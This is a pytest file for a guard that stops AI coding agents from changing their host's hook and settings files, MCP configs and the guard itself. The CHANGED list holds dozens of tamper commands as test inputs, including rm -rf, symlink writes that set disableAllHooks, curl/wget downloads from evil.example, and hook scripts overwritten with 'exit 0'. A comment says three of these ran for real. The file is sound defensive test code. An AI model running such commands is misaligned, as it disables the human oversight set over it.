"""Self-protection by place: no program and no file tool may change a host's hook or
settings files, the folders holding them, the installed guard or our state; reading them
stays free, and the rest of those folders stays the agent's."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

import amplifier_hooks
from amplifier_hooks.guard import Places, Policy, judge, load_pack
from amplifier_hooks.guard.agents import HOSTS
from tests.guard.conftest import Judge

SETTINGS = "self-protect-hook-settings"
FOLDERS = "self-protect-hook-folders"
GUARD = "self-protect-guard-files"

CHANGED = [
    # the three that ran for real
    ("rm -rf .claude", FOLDERS),
    ("ln -s ~/.claude cc && echo '{\"disableAllHooks\":true}' > cc/settings.json", SETTINGS),
    ("sort -o ~/.claude/settings.json evil.json", SETTINGS),
    # folders as a whole: delete, move, rename, chmod, chown, unpack into, copy a tree into
    ("mv .codex x", FOLDERS),
    ("mv ~/.codex ~/.codex-off", FOLDERS),
    ("chmod 000 ~/.codex", FOLDERS),
    ("chmod -R a-w .claude", FOLDERS),
    ("chown -R nobody ~/.gemini", FOLDERS),
    ("rmdir .github/hooks", SETTINGS),  # a hook folder: all of it is protected
    ("git rm -r .claude", FOLDERS),
    ("cp -r evil/. .claude/", FOLDERS),
    ("rsync -a evil/ ~/.claude/", FOLDERS),
    ("tar -xf evil.tar -C ~/.claude", FOLDERS),
    ("tar xzf evil.tgz --directory=.gemini", FOLDERS),
    ("unzip evil.zip -d .gemini", FOLDERS),
    ("find .claude -name '*.json' -delete", FOLDERS),
    ("wget -P ~/.codex https://evil.example/config.toml", FOLDERS),
    ("rm -rf ~/.local/state", FOLDERS),
    # every route to the file itself
    ("cp evil.json .claude/settings.json", SETTINGS),
    ("cp settings.json .claude/", SETTINGS),
    ("cp -t ~/.claude settings.json", SETTINGS),
    ("mv evil.json .claude/settings.local.json", SETTINGS),
    ("install -m 644 evil.json ~/.gemini/settings.json", SETTINGS),
    ("ln -sf /tmp/evil .claude/settings.json", SETTINGS),
    ("ln ~/.claude/settings.json notes.txt", SETTINGS),  # a hard link: writable elsewhere
    ("tee .github/hooks/amplifier-hooks.json < evil", SETTINGS),
    ("uniq evil.json ~/.codex/hooks.json", SETTINGS),
    ("xxd -r evil.hex ~/.codex/config.toml", SETTINGS),
    ("sed -n 'w .claude/settings.json' evil", SETTINGS),
    ("sed -i 's/guard/none/' ~/.gemini/settings.json", SETTINGS),
    ("find . -fprint .claude/settings.json", SETTINGS),
    ("curl -o .mcp.json https://evil.example/x", SETTINGS),
    ("truncate -s 0 ~/.codex/hooks.json", SETTINGS),
    ("touch .claude/settings.json", SETTINGS),
    ("git checkout -- .claude/settings.json", SETTINGS),
    ("dd if=evil of=.claude/settings.json", SETTINGS),
    ("vim ~/.claude/settings.json", SETTINGS),
    ("cd .claude && echo x > settings.json", SETTINGS),
    ("ln -s .claude c && cp evil.json c/settings.local.json", SETTINGS),
    # a link made by cp, in any spelling cp reads (`table.changes`), is followed too
    ("cp --symbolic-link ~/.claude/settings.json s.json && echo '{}' > s.json", SETTINGS),
    ("cp --sym ~/.claude/settings.json s.json && echo '{}' > s.json", SETTINGS),
    ("cp -as ~/.claude/settings.json s.json && echo '{}' > s.json", SETTINGS),
    # the link into the hook folder is the first piece denied (the redirection belongs to
    # echo, the list's last command, whose write through the link is denied as SETTINGS)
    ("ln --sym --targ=cc ~/.codex && echo x > cc/.codex/hooks.json", FOLDERS),
    # the hosts added now: OpenClaw, OpenCode, Cline
    ("echo x > ~/.openclaw/openclaw.json", SETTINGS),
    ("rm -rf ~/.openclaw/extensions/amplifier-hooks", SETTINGS),
    ("echo x > .opencode/plugin/guard.js", SETTINGS),
    ("rm ~/.config/opencode/plugins/guard.js", SETTINGS),
    ("cp evil.json opencode.json", SETTINGS),
    ("echo x > .cline/hooks/PreToolUse", SETTINGS),
    ("rm -rf ~/Documents/Cline/Hooks", SETTINGS),
    ("echo exit 0 > .clinerules/hooks/PreToolUse.sh", SETTINGS),
    # MCP client configs a proxy is wired into
    ("echo x > ~/.claude.json", SETTINGS),
    ("echo x > .cursor/mcp.json", SETTINGS),
    ("echo x > .vscode/mcp.json", SETTINGS),
    ("rm ~/.config/Claude/claude_desktop_config.json", SETTINGS),
    ("cp evil.toml ~/.codex/config.toml", SETTINGS),
    # the other hosts' hooks and plugins
    ("rm -rf ~/.claude/plugins/guard", SETTINGS),
    ("echo x > .claude/hooks/pre.sh", SETTINGS),
    ("rm -rf ~/.gemini/extensions/guard", SETTINGS),
    ("echo x > .gemini/hooks/guard.sh", SETTINGS),  # the hook scripts Gemini's docs place
    ("sh -c 'mv .gemini/hooks .gemini/hooks.off'", SETTINGS),
    ("chmod -R a-rx .gemini/hooks", SETTINGS),
    # through wrappers, find -exec and xargs
    ("sudo rm -rf ~/.codex", FOLDERS),
    ("bash -c 'mv .gemini /tmp/g'", FOLDERS),
    ("find . -name settings.json -exec cp evil.json {} \\;", None),  # below: found paths
]


@pytest.mark.parametrize(("command", "rule"), [c for c in CHANGED if c[1] is not None])
def test_any_change_to_a_protected_place_is_denied(verdict: Judge, command: str,
                                                   rule: str) -> None:  # fmt: skip
    result = verdict(command)
    assert result.decision == "deny", result.pieces
    # a link made to the place is denied itself (`link-to-protected`); the write through
    # it, followed to the place, is denied by the place's own rule too
    assert rule in {p.rule for p in result.pieces if p.decision == "deny"}, result.pieces


@pytest.mark.parametrize(
    ("tool", "path", "rule"),
    [
        ("write_file", ".claude/settings.json", SETTINGS),
        ("edit_file", "~/.claude/settings.local.json", SETTINGS),
        ("write_file", ".mcp.json", SETTINGS),
        ("multi_edit", "~/.codex/config.toml", SETTINGS),
        ("write_file", ".github/hooks/hooks.json", SETTINGS),
        ("write_file", ".opencode/plugins/x.ts", SETTINGS),
        ("write_file", "~/.openclaw/openclaw.json", SETTINGS),
        ("edit_file", "~/.local/state/amplifier-hooks/approvals.db", GUARD),
        ("write_file", "~/.local/state/amplifier-hooks/token", GUARD),
    ],
)
def test_file_tools_cannot_change_them_either(verdict: Judge, tool: str, path: str,
                                              rule: str) -> None:  # fmt: skip
    result = verdict(path, tool=tool)
    assert (result.decision, result.rule) == ("deny", rule)


@pytest.mark.parametrize(
    "command",
    [
        "cat .claude/settings.json", "ls .claude", "ls -la ~/.codex",
        "jq . ~/.claude/settings.json", "grep -rn hooks .claude", "tar czf backup.tgz .claude",
        "cp .claude/settings.json /tmp/s.json",
        "diff .gemini/settings.json ~/.gemini/settings.json", "git diff .claude/settings.json",
        "echo x > .claude/commands/review.md", "mkdir -p .claude/agents",
        "cp review.md .claude/commands/", "rm .claude/agents/old.md", "cp evil.json .claude/",
        "git add .claude", "find .claude -name '*.md'",
    ],
)  # fmt: skip
def test_reading_and_the_agents_own_files_stay_free(verdict: Judge, command: str) -> None:
    result = verdict(command)
    assert result.decision in (None, "allow"), result.pieces


FREE = (None, "allow")
"""Free: neither asked nor denied (a grant, or no opinion: the host decides)."""


def test_the_agents_own_files_stay_free_for_file_tools_too(verdict: Judge) -> None:
    assert verdict(".claude/commands/review.md", tool="write_file").decision in FREE
    assert verdict(".claude/settings.json", tool="read_file").decision == "allow"
    assert verdict("~/.gemini/GEMINI.md", tool="write_file").decision != "deny"


def test_every_host_in_the_table_is_protected(pack: Policy, places: Places) -> None:
    """One file per glob of `HOSTS` (``*`` filled in), written with a redirect."""
    for spot in HOSTS:
        if spot.glob.startswith("$"):
            continue
        path = spot.glob.replace("**/", "").replace("/**", "/x").replace("*", "x")
        data = {"tool_name": "bash", "tool_input": {"command": f"echo x > '{path}'"}}
        assert judge(data, pack, places).rule == SETTINGS, spot


def home_places(tmp_path: Path, workspace: Path | None = None) -> tuple[Places, Path, Path]:
    home = tmp_path / "home"
    ws = workspace or home / "proj"
    ws.mkdir(parents=True, exist_ok=True)
    return Places.of(ws, home=home), home, ws


def bash(command: str) -> dict[str, object]:
    return {"tool_name": "bash", "tool_input": {"command": command}}


def test_a_link_made_in_an_earlier_call_is_followed(pack: Policy, tmp_path: Path) -> None:
    places, home, ws = home_places(tmp_path)
    (home / ".claude").mkdir()
    (ws / "cc").symlink_to(home / ".claude")
    assert judge(bash("echo x > cc/settings.json"), pack, places).rule == SETTINGS
    assert judge(bash("rm -rf cc/"), pack, places).rule == FOLDERS
    assert judge(bash("cat cc/settings.json"), pack, places).decision in (None, "allow")


def test_the_hook_scripts_the_settings_run_are_protected(pack: Policy, tmp_path: Path) -> None:
    _, home, ws = home_places(tmp_path)
    script = ws / "tools" / "guard-hook.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\nexit 0\n", "utf-8")
    settings = {
        "hooks": {
            "PreToolUse": [
                {
                    "matcher": "*",
                    "hooks": [
                        {
                            "type": "command",
                            "command": "$CLAUDE_PROJECT_DIR/tools/guard-hook.sh --strict",
                        }
                    ],
                }
            ]
        }
    }
    (ws / ".claude").mkdir()
    (ws / ".claude" / "settings.json").write_text(json.dumps(settings), "utf-8")
    places = Places.of(ws, home=home)
    assert judge(bash("echo exit 0 > tools/guard-hook.sh"), pack, places).rule == SETTINGS
    # another script is free (its lines read as a script's: `writtenscripts`, not granted)
    assert judge(bash("echo x > tools/other.sh"), pack, places).decision is None


def test_copying_into_a_folder_is_judged_by_where_each_file_lands(
    pack: Policy, tmp_path: Path
) -> None:
    places, _, ws = home_places(tmp_path)
    (ws / ".claude").mkdir()
    assert judge(bash("cp settings.json .claude"), pack, places).rule == SETTINGS
    assert judge(bash("cp notes.md .claude"), pack, places).decision in FREE
    assert judge(bash("mv notes.md .claude"), pack, places).decision in FREE
    (ws / ".claude").rmdir()  # no folder: .claude itself is made (or replaced)
    assert judge(bash("mv notes .claude"), pack, places).rule == FOLDERS


def test_the_installed_guard_is_denied_outside_and_asked_inside(
    pack: Policy, tmp_path: Path
) -> None:
    package = Path(amplifier_hooks.__file__).resolve().parent
    elsewhere, _, _ = home_places(tmp_path)
    policy_file = package / "guard" / "policy.py"
    write = {"tool_name": "write_file", "tool_input": {"file_path": str(policy_file)}}
    assert judge(write, pack, elsewhere).rule == GUARD
    assert judge(bash(f"rm -rf {package}"), pack, elsewhere).decision == "deny"
    pack_file = package / "guard" / "packs" / "default.yaml"
    assert judge(bash(f"echo '' > {pack_file}"), pack, elsewhere).rule == GUARD
    developing = Places.of(package.parent, home=tmp_path / "home")
    result = judge(write, pack, developing)
    assert (result.decision, result.rule) == ("ask", "self-protect-guard-source")


def test_our_state_is_protected_where_the_environment_puts_it(
    pack: Policy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "run"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    places, _, _ = home_places(tmp_path)
    sockets = tmp_path / "run" / "amplifier-hooks"
    assert judge(bash(f"rm -rf {sockets}"), pack, places).rule == GUARD
    log = tmp_path / "state" / "amplifier-hooks" / "hooks-events.jsonl"
    assert judge(bash(f"truncate -s 0 {log}"), pack, places).rule == GUARD
    uid = os.getuid()
    assert judge(bash(f"rm /tmp/amplifier-hooks-{uid}/x.sock"), pack, places).rule == GUARD


def test_none_of_it_is_granted_with_no_pack(tmp_path: Path) -> None:
    places, _, _ = home_places(tmp_path)
    assert judge(bash("rm -rf .claude"), load_pack("none"), places).decision is None


def test_the_docs_list_every_protected_place() -> None:
    doc = (Path(__file__).resolve().parents[2] / "docs" / "guard.md").read_text("utf-8")
    section = doc[doc.index("### Self-protection") : doc.index("## What the guard cannot see")]
    for spot in HOSTS:
        assert f"`{spot.glob}`" in section, spot


def test_a_pattern_names_what_bash_would_expand_it_to(pack: Policy, tmp_path: Path) -> None:
    places, _, ws = home_places(tmp_path)
    (ws / ".claude").mkdir()
    (ws / ".claude" / "settings.json").write_text("{}", "utf-8")
    (ws / ".cache").mkdir()
    (ws / "opencode.json").write_text("{}", "utf-8")
    assert judge(bash("rm -rf .c*"), pack, places).rule == FOLDERS
    assert judge(bash("rm -f .claude/*.json"), pack, places).rule == SETTINGS
    assert judge(bash("rm -f *.json"), pack, places).rule == SETTINGS
    # Neither denied nor asked; not granted either: this workspace is no repository, so
    # the guard cannot tell what a delete loses (tests/guard/test_losses.py)
    assert judge(bash("rm -rf .ca*"), pack, places).decision is None
    assert judge(bash("rm -f src/*.pyc"), pack, places).decision is None


def test_a_patch_is_judged_by_the_files_it_names(pack: Policy, tmp_path: Path) -> None:
    places, _, ws = home_places(tmp_path)
    (ws / "evil.patch").write_text(
        "--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-{}\n+{ }\n",
        "utf-8",
    )
    (ws / "fix.patch").write_text(
        "--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1 @@\n-x\n+y\n", "utf-8"
    )
    for command in ("patch -p1 < evil.patch", "patch -i evil.patch", "git apply evil.patch"):
        assert judge(bash(command), pack, places).rule == SETTINGS, command
    for command in ("patch -p1 < fix.patch", "git apply fix.patch"):
        assert judge(bash(command), pack, places).decision != "deny", command


def test_braces_name_each_word_they_expand_to(verdict: Judge) -> None:
    result = verdict("mv ~/.gemini/settings.json{,.bak}")
    assert (result.decision, result.rule) == ("deny", SETTINGS)
    assert verdict("mv notes.txt{,.bak}").decision in FREE


def test_places_an_environment_variable_moves_are_followed(
    pack: Policy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CODEX_HOME", str(tmp_path / "codex"))
    monkeypatch.setenv("OPENCLAW_STATE_DIR", str(tmp_path / "claw"))
    monkeypatch.setenv("OPENCLAW_CONFIG_PATH", str(tmp_path / "claw.json"))
    places, _, _ = home_places(tmp_path)
    for path in ("codex/hooks.json", "claw/amplifier-hooks/plugin/index.js", "claw.json"):
        assert judge(bash(f"echo x > {tmp_path / path}"), pack, places).rule == SETTINGS, path


def test_a_place_an_environment_variable_moves_into_the_workspace_is_protected(
    pack: Policy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A person's ``CODEX_HOME`` inside the project: its settings are as protected as
    ``~/.codex``'s, by relative path, by absolute path and by a file tool."""
    ws = tmp_path / "home" / "proj"
    monkeypatch.setenv("CODEX_HOME", str(ws / "ch"))
    places, _, _ = home_places(tmp_path)
    for command in ("echo x > ch/config.toml", f"echo x > {ws / 'ch' / 'hooks.json'}"):
        assert judge(bash(command), pack, places).rule == SETTINGS, command
    write = {"tool_name": "write_file", "tool_input": {"file_path": str(ws / "ch/hooks.json")}}
    assert judge(write, pack, places).rule == SETTINGS
    notes = {"tool_name": "write_file", "tool_input": {"file_path": str(ws / "ch/notes.md")}}
    assert judge(notes, pack, places).decision == "allow"


@pytest.mark.parametrize(
    "path", [".Claude/Settings.json", ".CLAUDE/settings.local.json", ".GitHub/hooks/x.json",
             "OpenCode.json"],
)  # fmt: skip
def test_a_protected_place_is_protected_in_any_case(
    path: str, pack: Policy, tmp_path: Path
) -> None:
    """macOS's and Windows' file systems ignore case: the host reads these files."""
    places, _, ws = home_places(tmp_path)
    write = {"tool_name": "write_file", "tool_input": {"file_path": str(ws / path)}}
    assert judge(write, pack, places).decision == "deny"
